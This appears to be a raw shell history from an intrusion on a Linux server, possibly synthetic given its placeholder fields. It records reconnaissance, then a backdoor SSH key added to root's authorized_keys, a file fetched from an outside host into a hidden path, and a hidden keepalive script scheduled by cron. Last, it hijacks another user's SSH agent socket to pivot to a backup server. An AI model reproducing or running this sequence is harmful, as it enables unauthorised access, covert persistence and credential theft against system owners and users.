ping -c 3 10.0.50.10
curl -ks -o /dev/null -w '%{http_code}\n' https://10.0.50.10:8043/web/home
systemctl status ssh
exit
w
id
uname -a
ip -br a
ip r
cat /etc/resolv.conf
cat /etc/passwd
last -n 40
ls -la /root/.ssh
ls -la /home/*/.ssh
mkdir -p /root/.ssh && chmod 700 /root/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIhz4aR70ThMPS02R1ctmVzZj5mzvm/6x9fwlQPPaM6dc {{user_2}}" >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
curl -fsS http://{{ip_3}}:8080/kc -o /root/.ssh/.kc
chmod 600 /root/.ssh/.kc
vi /usr/local/sbin/.ssh-keepalive.sh
chmod 700 /usr/local/sbin/.ssh-keepalive.sh
(crontab -l 2>/dev/null; echo "*/5 * * * * /usr/local/sbin/.ssh-keepalive.sh >/dev/null 2>&1") | crontab -
/usr/local/sbin/.ssh-keepalive.sh
ss -tnp | grep 443
exit
who
ps -ef | grep "sshd: "
ls -la /tmp/ssh-*
SSH_AUTH_SOCK=/tmp/ssh-Rk4TqWm2Zp/agent.40117 ssh-add -l
SSH_AUTH_SOCK=/tmp/ssh-Rk4TqWm2Zp/agent.40117 ssh -o StrictHostKeyChecking=no swhitfield@backup-01
nc -zv 10.0.50.10 8043
nc -zv 10.0.50.10 22
exit
tail -n 30 /var/log/auth.log
crontab -l
exit
